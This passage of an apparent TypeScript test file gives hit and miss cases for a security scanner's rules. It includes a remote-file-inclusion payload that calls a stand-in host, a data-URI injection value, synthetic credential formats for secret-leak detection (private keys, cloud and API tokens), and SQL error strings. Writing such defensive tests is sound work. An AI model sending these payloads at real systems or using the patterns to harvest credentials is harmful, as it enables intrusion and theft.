    hits: ["include('http://e/x')", "?f=data:text/plain;base64,AAAA"],
    misses: ["include x", "data:image/png;base64,AAAA"],
  },
};

/** Cases of the rules about what vendors hand out by mistake. Tokens are put together here, so that no scanner of repositories takes them for real ones. */
const LEAKS: Readonly<Record<string, RuleCases>> = {
  121110: {
    hits: ["RSA ", "EC ", "OPENSSH ", "ENCRYPTED ", ""].map(
      (kind) => `-----BEGIN ${kind}PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7`,
    ),
    misses: [
      "-----BEGIN PUBLIC KEY-----\nMIIB",
      "-----BEGIN CERTIFICATE-----",
      "-----BEGIN PRIVATE KEY-----\n<your key>\n",
    ],
  },
  121111: {
    hits: [
      `ghp_${"aB3".repeat(12)}`,
      `token: glpat-${"x".repeat(20)}`,
      `xoxb-${"1".repeat(11)}-${"a".repeat(24)}`,
      `sk_live_${"a1".repeat(12)}`,
      `AIza${"Q".repeat(35)}`,
      `SG.${"a".repeat(22)}.${"b".repeat(43)}`,
    ],
    misses: ["ghp_short", `sk_test_${"a1".repeat(12)}`, "npm_config_registry", "xoxb-your-token", "SG.com"],
  },
  121112: {
    hits: [`AKIA${"Q7".repeat(8)}`, `key "ASIA${"ZX".repeat(8)}", secret`],
    misses: [
      `https://s3.example/x?X-Amz-Credential=AKIA${"Q7".repeat(8)}%2F20261125`,
      "AKIA",
      "ASIAN MARKETS OF TODAY",
    ],
  },
  121120: {
    hits: [
      "You have an error in your SQL syntax; check the manual",
      "ORA-01756: quoted string not properly terminated",
      "SQLSTATE[42S02]: Base table or view not found",
    ],
    misses: ["an error in the syntax of your query", "flora-12345: a plant", "SQLSTATE is a code of five characters"],
  },
};

/** Cases of every rule of the own pack, by its number. */
export const CASES: Readonly<Record<string, RuleCases>> = { ...QUERIES, ...MARKUP, ...CODE, ...PLACES, ...LEAKS };
